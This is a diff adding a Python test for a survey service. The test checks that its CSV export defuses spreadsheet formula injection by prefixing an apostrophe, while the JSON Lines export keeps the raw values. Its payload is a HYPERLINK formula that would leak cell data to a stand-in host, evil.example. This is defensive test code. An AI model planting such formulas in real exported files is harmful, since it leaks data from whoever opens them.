@@ -11,8 +11,9 @@ from flows.loader import load_campaign
 from outreach.bootstrap import Services
 from outreach.web.api import data_dictionary
 from tests.factories import add_resident
+from tests.outreach.helpers import launch, reply
 from tests.outreach.web.api.conftest import AppClient
-from tests.outreach.web.api.helpers import auth, bulk_answers, draft, seeded_survey
+from tests.outreach.web.api.helpers import SURVEY_YAML, auth, bulk_answers, draft, seeded_survey
 
 
 async def test_csv_export_has_a_header_and_every_answer(services: Services, api: AppClient) -> None:
@@ -121,3 +122,31 @@ async def test_exports_stream_in_constant_memory(services: Services, api: AppCli
         assert size > 5_000_000
         assert peak < 4_000_000, f"{kind}: peak {peak} bytes for {size} bytes of output"
         assert peak < small_peak + 1_000_000, f"{kind}: peak {small_peak} for 5,000 answers, {peak} for 50,000"
+
+
+async def test_csv_export_neutralises_formulas_and_jsonl_keeps_them(services: Services, api: AppClient) -> None:
+    """A resident's answer and an imported attribute that a spreadsheet would run as formulas: the CSV
+    gets a ' in front of each (OWASP), the JSON Lines has them exactly, the dictionary says so."""
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
+    await add_resident(services, phone="+48600100211", district="@SUM(1)")
+    campaign_id = await launch(services, SURVEY_YAML)
+    for text in ("1", "5", hyperlink):  # visits, rating, idea
+        await reply(services, "+48600100211", text)
+    headers = await auth(services, "responses:read")
+
+    response = await api.get(f"/api/v1/campaigns/{campaign_id}/export.csv", headers=headers)
+    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
+    assert [(row["question"], row["value"], row["district"]) for row in rows] == [
+        ("visits", "weekly", "'@SUM(1)"),
+        ("rating", "5", "'@SUM(1)"),
+        ("idea", "'" + hyperlink, "'@SUM(1)"),
+    ]
+    response = await api.get(f"/api/v1/campaigns/{campaign_id}/export.jsonl", headers=headers)
+    lines = [json.loads(line) for line in (await response.text()).splitlines()]
+    assert [(line["value"], line["district"]) for line in lines] == [
+        ("weekly", "@SUM(1)"),
+        (5, "@SUM(1)"),
+        (hyperlink, "@SUM(1)"),
+    ]
+    response = await api.get(f"/api/v1/campaigns/{campaign_id}/dictionary", headers=headers)
+    assert "OWASP" in (await response.json())["csv"]
